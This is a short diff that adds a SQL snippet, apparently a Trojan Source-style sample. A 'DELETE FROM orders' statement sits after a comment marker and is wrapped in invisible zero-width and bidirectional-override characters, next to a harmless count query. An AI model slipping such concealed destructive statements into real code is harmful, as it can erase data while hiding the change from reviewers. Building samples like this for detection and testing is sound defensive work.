@@ -1,0 +1,3 @@
+SELECT 1-- ‍‏ ;DELETE FROM orders‮
+
+;SELECT count(*) FROM orders WHERE status = 'paid'
